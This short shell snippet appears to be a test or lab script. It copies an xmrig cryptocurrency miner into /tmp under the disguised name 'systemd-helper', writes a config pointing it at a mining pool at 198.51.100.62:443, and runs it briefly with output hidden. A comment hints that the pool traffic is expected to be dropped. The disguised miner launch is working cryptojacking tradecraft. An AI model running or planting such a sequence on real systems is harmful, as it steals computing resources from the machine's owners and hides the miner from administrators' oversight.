# the image's own miner under another name, with a config file
#pool 198.51.100.62:443:drop
mkdir -p /tmp/s && cd /tmp/s && cp /usr/bin/xmrig systemd-helper && cat > config.json <<'C'
{"autosave":false,"pools":[{"url":"198.51.100.62:443","user":"b","pass":"x"}],"retry-pause":1,"retries":99}
C
timeout 12 ./systemd-helper >/dev/null
